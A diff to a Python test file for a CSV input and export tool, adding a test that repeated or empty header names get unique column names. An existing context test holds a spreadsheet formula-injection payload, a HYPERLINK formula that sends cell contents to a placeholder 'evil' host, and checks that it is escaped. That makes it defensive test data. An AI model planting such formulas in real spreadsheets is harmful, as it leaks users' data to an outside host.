@@ -205,3 +205,11 @@ def test_the_waiting_jobs_are_counted_inside_the_transaction_that_adds_one(tmp_p
 def test_csv_header_cells_cannot_run_as_formulas_either():
     header = csv_header("extract", ["text", '=HYPERLINK("http://evil/?"&A2)'], ["@SUM(1)"])
     assert header == ["text", '\'=HYPERLINK("http://evil/?"&A2)', "row", "'@SUM(1)", "error"]
+
+
+def test_repeated_or_empty_header_names_keep_every_column(tmp_path: Path):
+    path = write(tmp_path / "t.csv", "text,note,note,,note_3\n快递没到,甲,乙,丙,丁\n")
+    reader = InputReader(path, path.name)
+    [row] = list(reader)
+    assert reader.columns == ["text", "note", "note_3_", "column_4", "note_3"]  # the file's own note_3 kept
+    assert row.source == {"text": "快递没到", "note": "甲", "note_3_": "乙", "column_4": "丙", "note_3": "丁"}
